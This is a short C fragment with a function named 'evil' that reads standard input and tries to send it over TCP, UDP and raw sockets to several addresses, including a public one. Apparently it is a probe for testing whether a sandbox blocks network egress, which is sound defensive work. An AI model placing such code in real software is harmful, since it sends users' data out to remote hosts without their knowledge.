/* Sends standard input to whoever may listen. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>

static void to(const char *host, int kind, const char *text, size_t length)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(4711) };
	int s = socket(AF_INET, kind | SOCK_NONBLOCK, kind == SOCK_RAW ? IPPROTO_UDP : 0);
	inet_pton(AF_INET, host, &a.sin_addr);
	if (s < 0)
		return;
	connect(s, (struct sockaddr *)&a, sizeof a);
	usleep(20000);
	if (send(s, text, length, MSG_NOSIGNAL) == (ssize_t)length)
		fprintf(stderr, "sent to %s\n", host);
	close(s);
}

static void evil(const char *path)
{
	static const char *const hosts[] = { "127.0.0.1", "10.0.2.2", "192.168.76.2", "1.1.1.1" };
	char text[4096];
	int pair[2];
	ssize_t length = read(0, text, sizeof text);
	(void)path;
	if (length < 0 || pipe(pair) != 0 || write(pair[1], text, (size_t)length) != length)
		exit(1);
	close(pair[1]);
	dup2(pair[0], 0);
	for (size_t i = 0; i < sizeof hosts / sizeof *hosts; i++) {
		to(hosts[i], SOCK_STREAM, text, (size_t)length);
		to(hosts[i], SOCK_DGRAM, text, (size_t)length);
		to(hosts[i], SOCK_RAW, text, (size_t)length);
	}
}
